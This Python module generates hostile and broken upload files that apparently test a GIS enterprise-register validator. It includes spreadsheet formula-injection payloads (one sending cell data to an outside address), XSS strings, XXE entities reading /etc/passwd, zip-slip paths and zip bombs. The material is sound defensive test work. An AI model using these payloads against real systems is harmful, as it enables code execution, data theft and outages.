"""Hostile and broken files: some 350 ways to bring harm, each a file that is good but for one thing.

``collection`` makes the files of a folder; each names the codes with which it may be refused, and where the harm sits
in a row the number of that row and its heading. Nothing here is random: the same call makes the same files.
"""

import base64
import gzip
import io
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
from shapely.geometry import LineString, Point, Polygon

from gis.crs import STORAGE

HEADINGS = ["单位名称", "统一社会信用代码", "行业代码", "管理类别", "经度", "纬度", "地址", "工业园区", "网格编号"]
FIRST = ["示例化工厂", "91130200699229617X", "2611", "重点管理", "125.1012", "46.5934", "大庆市甲路1号", "甲园", "G1"]
SECOND = ["示例纸业", "911302307808371268", "2221", "重点管理", "125.2013", "46.5521", "大庆市乙路2号", "乙园", "G2"]
OLD_WORKBOOK = Path(__file__).parent / "old_workbook.xls"

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"示例化工厂")',
    "\t=1+1",
    "＝1+1",
    "=DDE(1;2;3)",
    "@示例",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "厂<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">厂</a>',
    "javascript:alert(1)",
    "<iframe src=http://192.0.2.1></iframe>",
    "<!-- 厂",
    "</script><script>alert(1)//",
    "厂<style>*{display:none}</style>",
]
HIDDEN = ["\x01", "\x07", "\x1b", "\x7f", "\u200b", "\u202e", "\u2066", "\ufeff", "\u2060"]
CLIMBING = ["../evil.shp", "..\\evil.shp", "/etc/evil.shp", "C:\\evil.shp", "a/../../evil.shp", "a/b/../../../evil.kml"]
PLACEMARK = "<Placemark><name>{name}</name><Point><coordinates>{place}</coordinates></Point></Placemark>"
ENTITIES = [
    '<!DOCTYPE k [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    '<!DOCTYPE k [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE k [<!ENTITY a SYSTEM "http://192.0.2.1/a">]>',
    '<!DOCTYPE k [<!ENTITY % p SYSTEM "http://192.0.2.1/a.dtd"> %p;]>',
    '<!DOCTYPE k SYSTEM "http://192.0.2.1/k.dtd">',
]
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ENDINGS = [
    ".xlsx",
    ".xls",
    ".csv",
    ".gpkg",
    ".geojson",
    ".parquet",
    ".dxf",
    ".gpx",
    ".kml",
    ".kmz",
    ".ovkml",
    ".ovkmz",
    ".zip",
]


@dataclass(frozen=True)
class Hostile:
    """One file: its name and bytes, the codes that may refuse it, and the row and heading that a fault must name."""

    name: str
    content: bytes
    codes: frozenset
    row: int = 0
    column: str = ""


def collection(folder):
    """All files, made with the help of an empty folder."""
    makers = (
        formulas, scripts, invisible, lengths, encodings, csv_forms, numbers, identities, empties, unknown_endings,
        disguises, climbing, bombs, locks, xml, placemarks, workbooks, old_workbooks, shapefiles, layers, cuts,
    )  # fmt: skip
    return [one for maker in makers for one in maker(folder)]


def case(name, content, *codes, row=0, column=""):
    """A hostile file."""
    return Hostile(name, content, frozenset(codes), row, column)


def csv(*rows, encoding="utf-8-sig", headings=HEADINGS):
    """A csv file of the usual headings."""
    text = io.StringIO()
    pd.DataFrame(list(rows), columns=headings).to_csv(text, index=False, lineterminator="\n")
    return text.getvalue().encode(encoding)


def xlsx(*rows, headings=HEADINGS, change=None):
    """A workbook of the usual headings, texts as texts; ``change`` may alter the sheet."""
    book = openpyxl.Workbook()
    for row, cells in enumerate([headings, *rows], start=1):
        for column, text in enumerate(cells, start=1):
            cell = book.active.cell(row, column, text)
            cell.data_type = "s"
    if change:
        change(book)
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def changed(row, heading, text):
    """A row with another text under a heading."""
    return [text if name == heading else cell for name, cell in zip(HEADINGS, row, strict=True)]


def packed(members, **how):
    """A zip archive."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, **how) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return content.getvalue()


def repacked(archive, changes, *, without=()):
    """An archive with some members changed, added or left out."""
    with zipfile.ZipFile(io.BytesIO(archive)) as old:
        members = {name: old.read(name) for name in old.namelist() if name not in without}
    return packed({**members, **changes})


def marked(name, place):
    """A placemark that has all that a register asks for."""
    told = {"统一社会信用代码": FIRST[1], "行业代码": "2611", "管理类别": "重点管理"}
    more = "".join(f'<Data name="{heading}"><value>{text}</value></Data>' for heading, text in told.items())
    mark = PLACEMARK.format(name=name, place=place)
    return mark.replace("<Point>", f"<ExtendedData>{more}</ExtendedData><Point>")


def formulas(_folder):
    """Cells that a spreadsheet would run, in csv and in workbooks."""
    made = []
    for number, text in enumerate(FORMULAS):
        heading = ("单位名称", "地址", "工业园区")[number % 3]
        content = csv(FIRST, changed(SECOND, heading, text))
        made.append(case(f"公式{number}{heading}.csv", content, "register.formula", row=3, column=heading))
        content = xlsx(FIRST, changed(SECOND, "单位名称", text.strip()))
        made.append(case(f"公式{number}.xlsx", content, "register.formula", row=3, column="单位名称"))
    return made


def scripts(folder):
    """Cells that a browser would run, in csv, workbooks, placemarks and layers."""
    made = []
    for number, text in enumerate(SCRIPTS):
        heading = ("单位名称", "地址")[number % 2]
        content = csv(FIRST, changed(SECOND, heading, text))
        made.append(case(f"脚本{number}{heading}.csv", content, "register.markup", row=3, column=heading))
        content = xlsx(changed(FIRST, "单位名称", text), SECOND)
        made.append(case(f"脚本{number}.xlsx", content, "register.markup", row=2, column="单位名称"))
        body = f"<kml>{marked(f'<![CDATA[{text}]]>', '125.1012,46.5934')}</kml>"
        made.append(case(f"脚本{number}.kml", body.encode(), "register.markup", row=1, column="name"))
        made.append(case(f"脚本{number}.geojson", layer(folder, ".geojson", 单位名称=text), "register.markup", row=1))
    return made


def invisible(_folder):
    """Characters that do not show, and those that were lost."""
    made = []
    for number, mark in enumerate(HIDDEN):
        heading = ("单位名称", "网格编号")[number % 2]
        content = csv(FIRST, changed(SECOND, heading, f"示{mark}例"))
        made.append(case(f"隐藏{number}{heading}.csv", content, "register.hidden_character", row=3, column=heading))
    lost = csv(changed(FIRST, "单位名称", "示例\ufffd\ufffd厂"), SECOND)
    return [*made, case("乱码.csv", lost, "register.lost_character", row=2, column="单位名称")]


def lengths(_folder):
    """Cells of many characters."""
    sizes = {
        501: "register.long_cell",
        5_000: "register.long_cell",
        120_000: "register.long_cell",
        140_000: "rows.bad_line",
    }
    made = [
        case(f"长{size}.csv", csv(FIRST, changed(SECOND, "单位名称", "厂" * size)), code, row=3)
        for size, code in sizes.items()
    ]
    long = xlsx(FIRST, changed(SECOND, "地址", "路" * 30_000))
    million = csv(FIRST) + b"x" * 3_000_000 + b"\n"
    return [
        *made,
        case("长.xlsx", long, "register.long_cell", row=3),
        case("长行.csv", million, "rows.bad_line", row=3),
    ]


def encodings(_folder):
    """Bytes of several encodings in one file, of none, and zeros."""
    lines = csv(FIRST, SECOND, FIRST, SECOND).decode("utf-8-sig").split("\n")
    mixed = [
        case(
            f"混码{odd}.csv",
            b"\n".join(line.encode("gb18030" if place == odd else "utf-8") for place, line in enumerate(lines)),
            "rows.mixed_encoding",
            row=odd + 1,
        )
        for odd in range(4)
    ]
    good = csv(FIRST, SECOND)
    wide = good.decode("utf-8-sig").encode("utf-16")
    raw = {
        "坏字节.csv": good + b"\xff\xff\xff\x81\xff",
        "零字节.csv": good.replace("示例纸业".encode(), b"a\x00b"),
        "全零.csv": b"\x00" * 4096,
        "半个.csv": wide[:-1],
        "无标记.csv": wide[2:],
        "四字节.csv": good.decode("utf-8-sig").encode("utf-32"),
        "孤立.csv": wide[:20] + b"\x00\xd8" + wide[20:],
        "随机.csv": bytes(range(128, 256)) * 20,
        "压缩.csv": gzip.compress(good, mtime=0),
    }
    return mixed + [case(name, content, "rows.unreadable", "rows.mixed_encoding") for name, content in raw.items()]


def csv_forms(_folder):
    """Tables out of joint: open quotes, columns without end or twice or missing, ten million lines."""
    good = csv(FIRST, SECOND)
    made = [
        case("引号.csv", good + b'"open,1,2\n' + good, "rows.bad_line"),
        case("引号二.csv", good + b'"a"b,1,2\n', "rows.bad_line", row=4),
        case("两万列.csv", good + b"," * 20_000 + b"\n", "rows.long_line", row=4),
        case("重名.csv", csv(FIRST, headings=[*HEADINGS[:-1], "单位名称"]), "rows.repeated_heading"),
        case("千万行.csv", csv(FIRST) + b"1\n" * 10_000_000, "rows.too_many"),
        case("千万空行.csv", csv(FIRST) + b"\n" * 10_000_000, "rows.too_many"),
        case("千万回车.csv", csv(FIRST) + b"\r" * 10_000_000, "rows.too_many"),
        case("百万列.csv", b"a," * 1_000_000 + b"\n1\n", "rows.long_line", row=1),
        case("散文.csv", "关于报送名录的通知\n各市局：\n请按时报送。\n".encode(), "table.no_column"),
    ]
    for place, heading in enumerate(HEADINGS[:6]):
        headings = [f"其他{place}" if name == heading else name for name in HEADINGS]
        content = csv(
            *[["?" if k == place else cell for k, cell in enumerate(row)] for row in (FIRST, SECOND)], headings=headings
        )
        made.append(case(f"缺{heading}.csv", content, "table.no_column"))
        made.append(
            case(
                f"空{heading}.csv", csv(FIRST, changed(SECOND, heading, "")), "table.empty_value", row=3, column=heading
            )
        )
    return made


def numbers(_folder):
    """Places that are none, or that cannot be told."""
    wrong = {
        "六十分": ("经度", "125°60′00″", "coordinates.sixty"),
        "六十秒": ("纬度", "46°30′60.0″", "coordinates.sixty"),
        "科学": ("经度", "1.25E+02", "coordinates.rounded"),
        "文字": ("经度", "厂区中心", "coordinates.not_read"),
        "无穷": ("经度", "inf", "coordinates.not_read"),
        "非数": ("纬度", "nan", "coordinates.not_read"),
        "过大": ("经度", "1" + "0" * 308, "coordinates.no_place"),
        "极地": ("纬度", "95.2", "coordinates.no_place"),
        "零": ("经度", "0", "coordinates.no_place"),
        "国外": ("纬度", "-33.9", "coordinates.no_place"),
        "百度": ("经度", "-125.1", "coordinates.no_place"),
        "省外": ("纬度", "30.2", "register.outside_box"),
        "两点": ("经度", "125.1.2.3.4", "coordinates.not_read"),
        "单引": ("纬度", "46'", "coordinates.not_read"),
    }
    made = [
        case(
            f"坐标{name}.csv",
            csv(FIRST, changed(SECOND, heading, text)),
            code,
            "coordinates.not_read",
            "coordinates.no_place",
            row=3,
        )
        for name, (heading, text, code) in wrong.items()
    ]
    for name, system, code in (
        ("西安", "西安80", "coordinates.old_datum"),
        ("北京", "Beijing 1954", "coordinates.old_datum"),
        ("两系", "WGS84和GCJ-02", "coordinates.two_systems"),
    ):
        rows = csv([*FIRST, system], [*SECOND, system], headings=[*HEADINGS, "坐标系"])
        made.append(case(f"坐标系{name}.csv", rows, code))
    return made


def identities(_folder):
    """Codes that are wrong, cut or another's."""
    wrong = {
        "校验": ("统一社会信用代码", "91130200699229617A", "register.bad_credit_code"),
        "短": ("统一社会信用代码", "9113020069922961", "register.bad_credit_code"),
        "科学": ("统一社会信用代码", "9.11302E+17", "register.cut_credit_code"),
        "截断": ("统一社会信用代码", "911302307808371000", "register.cut_credit_code"),
        "字母O": ("统一社会信用代码", "9113O2307808371268", "register.mistyped_credit_code"),
        "全角": ("统一社会信用代码", "９１１３０２３０７８０８３７１２６８", "register.mistyped_credit_code"),
        "行业": ("行业代码", "乱写的行业", "register.bad_industry_code"),
        "类别": ("管理类别", "特级管理", "table.unknown_value"),
        "空白": ("单位名称", "   ", "table.empty_value"),
    }
    made = [
        case(f"代码{name}.csv", csv(FIRST, changed(SECOND, heading, text)), code, row=3, column=heading)
        for name, (heading, text, code) in wrong.items()
    ]
    for name, number, code in (
        ("他人", "91130200699229617X001P", "register.foreign_permit_no"),
        ("错误", "911302307808371268001", "register.bad_permit_no"),
        ("截断", "9.11302E+21", "register.cut_permit_no"),
    ):
        rows = csv([*FIRST, ""], [*SECOND, number], headings=[*HEADINGS, "排污许可证编号"])
        made.append(case(f"许可证{name}.csv", rows, code, row=3, column="排污许可证编号"))
    rows = csv([*FIRST, "大庆市"], [*SECOND, "不存在市"], headings=[*HEADINGS, "所在市"])
    twice = csv(FIRST, SECOND, FIRST)
    return [
        *made,
        case("地市.csv", rows, "register.unknown_division", row=3, column="所在市"),
        case("重复.csv", twice, "register.repeated_site", row=4),
    ]


def empties(folder):
    """Files with nothing in them, or nothing but a heading."""
    nothing = {".dxf", ".gpkg", ".geojson"}
    made = [case(f"空{ending}", b"", "rows.unreadable", *["rows.empty"] * (ending == ".csv")) for ending in ENDINGS]
    blank = layer(folder, ".geojson", empty=True)
    return [
        *made,
        case("空白.csv", b"\n \n\t\n", "rows.empty"),
        case("只有表头.csv", csv(), "rows.empty"),
        case("只有表头.xlsx", xlsx(), "rows.empty"),
        case("空表.xlsx", xlsx(headings=[]), "rows.empty"),
        case("无地标.kml", b"<kml><Document/></kml>", "rows.empty"),
        case("无点.gpx", b"<gpx></gpx>", "rows.empty"),
        case("无要素.geojson", blank, "rows.empty", "rows.unreadable"),
        case("空档.zip", packed({}), "rows.several_layers", "rows.unreadable"),
        case("空档.kmz", packed({}), "rows.several_layers", "rows.unreadable"),
        *[case(f"空格{ending}", b"   \n", "rows.unreadable") for ending in sorted(nothing)],
    ]


def unknown_endings(_folder):
    """Files of other programs."""
    names = [
        "名录.doc",
        "名录.docx",
        "名录.pdf",
        "名录.rar",
        "名录.7z",
        "名录.exe",
        "名录",
        "名录.csv.exe",
        "名录.xlsm",
        "名录.shp",
        "名录.mdb",
        "名录.html",
    ]
    return [case(name, csv(FIRST), "rows.unknown_ending") for name in names]


def disguises(folder):
    """Contents under endings that are not theirs."""
    contents = {
        "图片": PNG,
        "程序": b"MZ\x90\x00" + b"\x00" * 200,
        "网页": b"<html><body><table><tr><td>1</td></tr></table></body></html>",
        "文档": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
        "空包": packed({"readme.txt": b"1"}),
        "表": xlsx(FIRST),
        "包": layer(folder, ".gpkg"),
    }
    allowed = {"表": {".xlsx", ".xls"}, "包": {".gpkg"}}
    return [
        case(
            f"{name}{ending}", content,
            "rows.unreadable", "rows.several_layers", "rows.empty", "rows.no_crs", "table.no_column",
        )
        for name, content in contents.items()
        for ending in ENDINGS
        if ending not in allowed.get(name, set()) and (name, ending) not in {("网页", ".csv"), ("文档", ".csv")}
    ]  # fmt: skip


def climbing(_folder):
    """Archives whose entries point outside."""
    return [
        case(f"越界{number}{ending}", packed({name: b"x", "doc.kml": b"<kml/>"}), "rows.climbing_entry")
        for number, name in enumerate(CLIMBING)
        for ending in (".zip", ".kmz", ".xlsx")
    ]


def bombs(_folder):
    """Archives that unpack to far more than they are, or say so."""
    zeros = b"\x00" * (60 << 20)
    heavy = {".zip": "a.shp", ".kmz": "doc.kml", ".xlsx": "xl/worksheets/sheet1.xml"}
    many = packed({f"{number}.txt": b"" for number in range(5_001)})
    made = [case(f"炸弹{ending}", packed({name: zeros}), "rows.bomb") for ending, name in heavy.items()]
    for ending, name in heavy.items():
        content = bytearray(packed({name: b"x" * 10_000}))
        place = content.rfind(b"PK\x01\x02")
        content[place + 24 : place + 28] = struct.pack("<I", 0xF0000000)
        made.append(case(f"谎报{ending}", bytes(content), "rows.bomb"))
    return [*made, *[case(f"五千{ending}", many, "rows.bomb") for ending in heavy]]


def locks(_folder):
    """Archives with a password or a broken directory."""
    made = []
    for ending in (".zip", ".kmz", ".xlsx"):
        content = bytearray(packed({"doc.kml": b"<kml/>", "a.shp": b"x"}))
        for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
            at = content.find(mark)
            content[at + place] |= 1
        made.append(case(f"加密{ending}", bytes(content), "rows.encrypted"))
        broken = bytearray(packed({"doc.kml": b"<kml/>", "a.shp": b"x"}))
        end = broken.rfind(b"PK\x05\x06")
        broken[end + 16 : end + 20] = struct.pack("<I", 0x7FFFFFFF)
        made.append(case(f"目录{ending}", bytes(broken), "rows.unreadable"))
        wrong = bytearray(
            packed({"doc.kml": b"<kml><Document>" + b"0123456789" * 100 + b"</Document></kml>", "a.shp": b"x"})
        )
        at = wrong.find(b"doc.kml") + len(b"doc.kml")
        wrong[at : at + 8] = b"\xff" * 8
        made.append(case(f"损坏{ending}", bytes(wrong), "rows.unreadable", "rows.several_layers"))
    return made


def xml(_folder):
    """Entities of one's own, from the file and from elsewhere."""
    made = []
    for number, head in enumerate(ENTITIES):
        for ending, tag in ((".kml", "kml"), (".ovkml", "kml"), (".gpx", "gpx"), (".kmz", "kml")):
            body = f'<?xml version="1.0"?>{head}<{tag}>{PLACEMARK.format(name="&c;", place="125,46")}</{tag}>'.encode()
            content = packed({"doc.kml": body}) if ending == ".kmz" else body
            made.append(case(f"实体{number}{ending}", content, "rows.entities", "rows.unreadable"))
    sheet = pointing("&c;").replace(b"<worksheet>", f"{ENTITIES[0]}<worksheet>".encode()).replace(b"t='s'", b"t='str'")
    content = repacked(xlsx(FIRST), {"xl/worksheets/sheet1.xml": sheet})
    return [*made, case("实体.xlsx", content, "rows.unreadable", "rows.empty", "table.no_column", "rows.entities")]


def placemarks(_folder):
    """Placemarks whose places are none, whose system is unknown or old, whose tags do not close."""
    places = [
        "",
        "125.1",
        "125.1;46.5",
        "东经,北纬",
        "inf,46.5",
        "nan,nan",
        "125.1,1e400",
        "125.1,95",
        "1e20,1e20",
        "0,0",
    ]
    made = []
    for number, place in enumerate(places):
        for ending in (".kml", ".ovkml"):
            body = f"<kml>{marked('厂', place)}</kml>".encode()
            codes = ("rows.bad_position", "coordinates.no_place", "coordinates.not_read", "coordinates.rounded")
            made.append(case(f"地标{number}{ending}", body, *codes, row=1))
    good = PLACEMARK.format(name="厂", place="125.1,46.5")
    for name, body, code in (
        ("西安", good.replace("<name>", "<OvCoordType>西安80</OvCoordType><name>"), "coordinates.old_datum"),
        ("未知", good.replace("<name>", "<OvCoordType>XYZ-9</OvCoordType><name>"), "coordinates.undecided"),
    ):
        made.append(case(f"地标{name}.ovkml", f"<kml>{body}</kml>".encode(), code))
    broken = [
        "<kml><Placemark>",
        "<kml>&</kml>",
        "kml",
        "<kml>\x01</kml>",
        "<?xml version='1.0' encoding='klingon'?><kml/>",
        "<a" * 50_000,
    ]
    return made + [case(f"标签{number}.kml", body.encode(), "rows.unreadable") for number, body in enumerate(broken)]


def workbooks(_folder):
    """Sheets that reach far, lie, repeat themselves or hide."""

    def far(cell):
        def change(book):
            book.active[cell] = "x"

        return change

    def merge(*ranges):
        def change(book):
            for one in ranges:
                book.active.merge_cells(one)

        return change

    def twice(book):
        other = book.copy_worksheet(book.active)
        other.title = "另一表"

    good = xlsx(FIRST, SECOND)
    sheet = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        text = archive.read(sheet).decode()
    bare = text.replace('<row r="2"', "<row").replace('r="A2"', "r='XFD1048576'")
    beyond = text.replace('r="A2"', 'r="ZZZZZ99999999"')
    none = ("rows.unreadable", "rows.empty", "table.no_column")
    strings = "xl/sharedStrings.xml"
    return [
        case("远.xlsx", xlsx(FIRST, change=far("XFD1048576")), "rows.too_wide"),
        case("宽.xlsx", xlsx(FIRST, change=far("XFD1000")), "rows.too_wide"),
        case("无行号.xlsx", repacked(good, {sheet: bare.encode()}), "rows.too_wide"),
        case("界外.xlsx", repacked(good, {sheet: beyond.encode()}), "rows.too_wide", "rows.unreadable"),
        case("合并名.xlsx", xlsx(FIRST, SECOND, change=merge("A2:I3")), "register.repeated_site", "table.empty_value"),
        case("合并表头.xlsx", xlsx(FIRST, SECOND, change=merge("A1:I1")), "table.no_column", "rows.repeated_heading"),
        case("合并全表.xlsx", xlsx(FIRST, SECOND, change=merge("A1:I3")), "rows.empty", "table.no_column"),
        case("两表.xlsx", xlsx(FIRST, SECOND, change=twice), "rows.several_sheets"),
        case("无表.xlsx", repacked(good, {}, without=(sheet,)), "rows.unreadable", "rows.empty"),
        case("无目录.xlsx", repacked(good, {}, without=("xl/workbook.xml",)), "rows.unreadable"),
        case("无文字.xlsx", repacked(good, {sheet: pointing(0)}), *none),
        case("索引.xlsx", repacked(good, {sheet: pointing(999_999), strings: STRINGS}), *none),
        case("文字数.xlsx", repacked(good, {sheet: pointing(0), strings: STRINGS[:90]}), *none),
        case("断表.xlsx", repacked(good, {sheet: text[: len(text) // 2].encode()}), "rows.unreadable"),
        case("宏.xlsx", repacked(good, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 600}), "rows.macros"),
    ]  # fmt: skip


STRINGS = b"<?xml version='1.0'?><sst count='4294967295' uniqueCount='4294967295'><si><t>\xe5\x8e\x82</t></si></sst>"


def pointing(number):
    """A sheet whose one cell points to a shared text."""
    cell = f"<row r='1'><c r='A1' t='s'><v>{number}</v></c></row>"
    return f"<?xml version='1.0'?><worksheet><sheetData>{cell}</sheetData></worksheet>".encode()


def old_workbooks(_folder):
    """Old workbooks that claim more than they hold, or hold macros."""
    good = OLD_WORKBOOK.read_bytes()
    made = []
    records = {
        "尺寸": (b"\x00\x02\x0e\x00", struct.pack("<IIHH", 0, 0x7FFFFFFF, 0, 256), 4),
        "文字": (b"\xfc\x00", struct.pack("<I", 0x7FFFFFF0), 8),
        "远格": (b"\xfd\x00\x0a\x00", struct.pack("<HH", 65535, 65535), 4),
    }
    for name, (mark, value, after) in records.items():
        at = good.find(mark)
        content = good[: at + after] + value + good[at + after + len(value) :]
        made.append(case(f"旧表{name}.xls", content, "rows.too_wide", "rows.unreadable"))
    entry = good.find("Workbook".encode("utf-16-le"))
    ring = bytearray(good)
    ring[entry + 116 : entry + 120] = struct.pack("<I", 0x7FFFFFFF)
    other = bytearray(good)
    other[entry : entry + 16] = "Workb00k".encode("utf-16-le")
    macros = bytearray(good)
    free = good.find(b"\x00" * 64, entry + 128) // 128 * 128
    name = "_VBA_PROJECT_CUR".encode("utf-16-le")
    macros[free : free + len(name)] = name
    macros[free + 64 : free + 67] = struct.pack("<HB", len(name) + 2, 1)
    return [
        *made,
        case("旧表断链.xls", bytes(ring), "rows.unreadable"),
        case("旧表无流.xls", bytes(other), "rows.unreadable"),
        case("旧表宏.xls", bytes(macros), "rows.macros"),
    ]


def layer(folder, ending, *, empty=False, places=None, crs=STORAGE, **columns):
    """A layer of the two sites as the bytes of one file."""
    rows = [dict(zip(HEADINGS, row, strict=True)) for row in (FIRST, SECOND)]
    table = pd.DataFrame(rows).drop(columns=["经度", "纬度"])
    for name, text in columns.items():
        table.loc[0, name] = text
    points = places or [Point(125.1012, 46.5934), Point(125.2013, 46.5521)]
    made = gpd.GeoDataFrame(table, geometry=points, crs=crs)
    path = folder / f"layer{ending}"
    path.unlink(missing_ok=True)
    if ending == ".parquet":
        made.to_parquet(path)
    else:
        pyogrio.write_dataframe(made.iloc[:0] if empty else made, path, encoding="UTF-8")
    return path.read_bytes()


def shapefile(folder, **how):
    """The parts of a shapefile by ending."""
    for old in folder.glob("part.*"):
        old.unlink()
    short = {name: name[:3] for name in HEADINGS}
    rows = pd.DataFrame([FIRST, SECOND], columns=HEADINGS).drop(columns=["经度", "纬度"]).rename(columns=short)
    points = how.get("places") or [Point(125.1012, 46.5934), Point(125.2013, 46.5521)]
    pyogrio.write_dataframe(gpd.GeoDataFrame(rows, geometry=points, crs=STORAGE), folder / "part.shp", encoding="UTF-8")
    return {path.suffix: path.read_bytes() for path in folder.glob("part.*") if path.suffix != ".cpg"}


def zipped(parts):
    """A zip of a shapefile's parts."""
    return packed({f"企业{ending}": body for ending, body in parts.items()})


def shapefiles(folder):
    """Tables that lie about their length, missing parts, old datums, and files cut short."""
    parts = shapefile(folder)
    dbf = parts[".dbf"]

    def lying(place, value):
        return zipped(parts | {".dbf": dbf[:place] + value + dbf[place + len(value) :]})

    datum = 'GEOGCS["{0}",DATUM["D_{0}",SPHEROID["{1}"]],PRIMEM["Greenwich",0.0],UNIT["Degree",0.0174532925199433]]'
    old = {
        "西安": datum.format("Xian_1980", 'Xian_1980",6378140.0,298.257').replace('298.257"', "298.257"),
        "北京": datum.format("Beijing_1954", 'Krasovsky_1940",6378245.0,298.3').replace('298.3"', "298.3"),
    }
    codes = ("rows.unreadable", "rows.unequal_parts", "table.no_column", "rows.empty", "table.empty_value")
    made = [
        case(f"投影{name}.zip", zipped(parts | {".prj": text.encode()}), "rows.old_datum") for name, text in old.items()
    ]
    for ending in (".shx", ".dbf", ".shp"):
        left = {name: body for name, body in parts.items() if name != ending}
        made.append(case(f"缺{ending[1:]}.zip", zipped(left), "rows.unreadable", "rows.several_layers"))
        made.append(case(f"断{ending[1:]}.zip", zipped(parts | {ending: parts[ending][:40]}), *codes))
        made.append(case(f"零{ending[1:]}.zip", zipped(parts | {ending: b"\0" * 200}), *codes))
    two = zipped(parts) and packed({f"{name}{ending}": body for name in ("甲", "乙") for ending, body in parts.items()})
    lines = shapefile(folder, places=[LineString([(125, 46), (126, 47)]), LineString([(125, 46), (126, 47)])])
    return [
        *made,
        case("表长.zip", lying(4, struct.pack("<I", 0xFFFFFFF0)), *codes),
        case("头长.zip", lying(8, struct.pack("<H", 1)), *codes),
        case("头长二.zip", lying(8, struct.pack("<H", 0xFFFF)), *codes),
        case("字段.zip", lying(32 + 16, b"\xff"), *codes),
        case("字段零.zip", lying(32 + 16, b"\x00"), *codes),
        case("两层.zip", two, "rows.several_layers"),
        case("线.zip", zipped(lines), "table.wrong_geometry"),
    ]


def layers(folder):
    """Layers of no or old systems, of other shapes, of broken structure."""
    point = '{"type":"Feature","properties":{"单位名称":"厂"},"geometry":{"type":"Point","coordinates":%s}}'
    whole = '{"type":"FeatureCollection","features":[%s]}'
    broken = ["{", "[]", "null", '{"type":"FeatureCollection"}', '{"type":"Nothing"}', whole % "1,2", "[" * 100_000]
    places = ['["a","b"]', "[]", "[125.1]", "[1e999,46]", "null", "[[125.1,46.5]]"]
    made = [
        case(f"结构{number}.geojson", text.encode(), "rows.unreadable", "rows.empty", "rows.no_crs", "table.no_column")
        for number, text in enumerate(broken)
    ]
    made += [
        case(
            f"位置{number}.geojson",
            (whole % (point % place)).encode(),
            "rows.unreadable",
            "table.no_column",
            "table.empty_value",
        )
        for number, place in enumerate(places)
    ]
    square = [Polygon([(125, 46), (125.1, 46), (125.1, 46.1)])] * 2
    line = [LineString([(125, 46), (126, 47)])] * 2
    for ending in (".gpkg", ".geojson", ".parquet"):
        made.append(case(f"面{ending}", layer(folder, ending, places=square), "table.wrong_geometry", row=1))
        made.append(case(f"线{ending}", layer(folder, ending, places=line), "table.wrong_geometry", row=1))
        made.append(
            case(f"图层脚本{ending}", layer(folder, ending, 单位名称="<svg onload=a>"), "register.markup", row=1)
        )
        made.append(case(f"图层公式{ending}", layer(folder, ending, 单位名称="=1+1"), "register.formula", row=1))
    for name, code in (("西安", 4610), ("北京", 4214), ("北京带", 2436)):
        places = [Point(20_500_000, 5_100_000)] * 2 if code > 4999 or code < 4000 else None
        made.append(case(f"旧基准{name}.gpkg", layer(folder, ".gpkg", crs=code, places=places), "rows.old_datum"))
        made.append(case(f"旧基准{name}.parquet", layer(folder, ".parquet", crs=code, places=places), "rows.old_datum"))
    plain = io.BytesIO()
    pd.DataFrame([FIRST], columns=HEADINGS).to_parquet(plain)
    return [
        *made,
        case("无图形.parquet", plain.getvalue(), "rows.unreadable"),
        case("库.gpkg", b"SQLite format 3\x00" + b"\x00" * 4096, "rows.unreadable"),
        case("图.dxf", b"0\nSECTION\n2\nENTITIES\n0\nPOINT\n8\n", "rows.unreadable", "rows.empty", "table.no_column"),
    ]


def cuts(folder):
    """Good files cut short."""
    whole = {
        ".xlsx": xlsx(FIRST, SECOND),
        ".xls": OLD_WORKBOOK.read_bytes(),
        ".gpkg": layer(folder, ".gpkg"),
        ".parquet": layer(folder, ".parquet"),
        ".kmz": packed({"doc.kml": f"<kml>{PLACEMARK.format(name='厂', place='125.1,46.5')}</kml>".encode()}),
        ".zip": zipped(shapefile(folder)),
        ".geojson": layer(folder, ".geojson"),
    }
    codes = ("rows.unreadable", "rows.empty", "rows.several_layers")
    return [
        case(f"截断{part}{ending}", content[: len(content) * part // 10], *codes)
        for ending, content in whole.items()
        for part in (1, 3, 5, 7, 9)
    ]
